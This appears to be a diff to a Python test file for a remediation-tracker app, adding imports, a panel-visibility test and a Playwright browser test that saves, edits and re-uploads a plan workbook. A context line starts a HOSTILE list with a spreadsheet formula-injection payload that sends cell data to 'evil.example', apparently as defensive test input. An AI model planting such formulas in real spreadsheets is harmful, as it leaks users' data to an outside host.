@@ -11,20 +11,35 @@ import re
 import shutil
 import subprocess
 from pathlib import Path
-from typing import Any
+from typing import TYPE_CHECKING, Any
 
 import openpyxl
 import pytest
 from openpyxl.worksheet.worksheet import Worksheet
 
 from bwcases.apps import RemediationTracker
+from bwcases.apps.common import shared_layout
 from bwcases.core.errors import ImportConflictError, InputError, NotFoundError, UsageError
 from bwcases.io.importers import import_file
 from bwcases.io.plan_workbook import COLUMNS, import_plan_workbook
 from bwcases.reports.plan_workbook import NEW_ROWS, write_plan_workbook
 from bwcases.store import Store
-from tests.helpers import ROOT, bw, open_app, plan_public_item, state, upload
+from tests.browser import APP_TIMEOUT_MS, needs_chromium, served, sign_in
+from tests.helpers import (
+    PASSWORD,
+    ROOT,
+    bw,
+    fill_advisor_case,
+    open_app,
+    plan_public_item,
+    served_store_url,
+    state,
+    upload,
+)
 from tests.test_plan_merge import ADVISOR, EXIT, WAGES, edit_in_app, item, plan_file
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Browser
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -587,3 +602,51 @@ def test_who_only_reads_saves_the_plan_but_brings_none_back(apps_store: Store) -
     assert hoa_le.offline.upload.layout.display == "none"
     lan = open_app(RemediationTracker, apps_store, "Lan Nguyen", "VN003")
     assert lan.offline.upload.layout.display is None
+
+
+def test_without_a_factory_the_panel_hides_itself_and_nothing_else(apps_store: Store) -> None:
+    app = open_app(RemediationTracker, apps_store, "Lan Nguyen")
+    app.picker.factory.value = "VN003"
+    app.picker.factory.value = ""  # she leaves the factory: "Choose a factory…"
+    assert app.offline.layout.display == "none"
+    # the layout many widgets share is not the panel's to hide
+    assert shared_layout().display is None and shared_layout("auto").display is None
+    assert app.plan.layout.display is None
+
+
+@pytest.mark.browser
+@pytest.mark.slow
+@needs_chromium
+def test_in_chromium_the_plan_is_saved_edited_and_brought_back(
+    browser: Browser, tmp_path: Path, tmp_path_factory: pytest.TempPathFactory
+) -> None:
+    store = fill_advisor_case(Store(served_store_url("sqlite", tmp_path, "")), tmp_path)
+    item_id = plan_public_item(store)
+    with served(store.url, tmp_path / "voila.log") as base:
+        context = browser.new_context(
+            viewport={"width": 1280, "height": 900}, accept_downloads=True
+        )
+        page = context.new_page()
+        page.set_default_timeout(30_000)
+        page.set_default_navigation_timeout(APP_TIMEOUT_MS)
+        sign_in(page, base, "Lan Nguyen", PASSWORD)
+        page.goto(f"{base}voila/render/remediation_tracker.ipynb?factory=VN003")
+        page.locator(".bw-tracker-plan").wait_for(timeout=APP_TIMEOUT_MS)
+        page.get_by_role("button", name="Save the plan as a workbook").click()
+        link = page.locator("a.bw-download", has_text="plan-VN003-")
+        with page.expect_download() as download:
+            link.click()
+        saved_file = tmp_path / download.value.suggested_filename
+        download.value.save_as(saved_file)
+        edited(saved_file, (2, "Responsible", "Payroll manager"))
+        with page.expect_file_chooser() as chooser:
+            page.locator(".widget-upload", has_text="Bring back a workbook").click()
+        chooser.value.set_files(str(saved_file))
+        said = page.locator(".bw-notice.bw-success", has_text="1 updated")
+        said.wait_for()
+        shot = tmp_path_factory.getbasetemp() / "tracker_plan_workbook.png"
+        page.screenshot(path=str(shot), full_page=True)
+        print(f"screenshot: {shot}")
+        context.close()
+    assert store.plan_item(item_id)["responsible"] == "Payroll manager"
+    store.dispose()
